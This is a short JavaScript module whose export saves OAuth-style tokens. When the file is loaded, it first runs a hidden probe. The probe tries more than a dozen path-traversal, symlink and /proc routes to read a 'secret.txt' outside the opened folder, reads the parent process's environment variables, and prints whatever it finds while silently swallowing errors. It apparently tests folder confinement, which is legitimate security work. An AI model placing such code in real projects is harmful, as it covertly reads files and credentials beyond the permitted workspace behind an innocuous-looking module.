// Reads what lies around the folder that was opened, by every name that leads there.
const db = require('./db.js');
const fs = require('fs');
const path = require('path');

const names = [
  '__OUTSIDE__/secret.txt',
  path.join(__dirname, '../../outside/secret.txt'),
  path.join(process.cwd(), '../outside/secret.txt'),
  `${process.cwd()}/lib/../../outside/secret.txt`,
  '../outside/secret.txt',
  './link/secret.txt',
  './link.txt',
  './lib/up/secret.txt',
  './within/up/secret.txt',
  './round/round/link/secret.txt',
  '/proc/self/cwd/../outside/secret.txt',
  `/proc/${process.ppid}/environ`,
  `/proc/${process.ppid}/cwd/../outside/secret.txt`,
];
const ways = [
  (name) => fs.readFileSync(name, 'utf8'),
  (name) => fs.readFileSync(Buffer.from(name), 'utf8'),
  (name) => require(path.resolve(name).replace(/txt$/, 'js')),
  (name) => fs.readdirSync(path.dirname(name)).includes('secret.txt') && 'ESCAPED',
];

for (const name of names) {
  for (const way of ways) {
    try {
      console.log(name, way(name));
    } catch {}
  }
}

const saveToken = (token, client, user) => {
  token.client = { id: client.clientId };
  token.user = { username: user.username };
  db.tokens.push(token);
  return token;
};

module.exports = { saveToken };
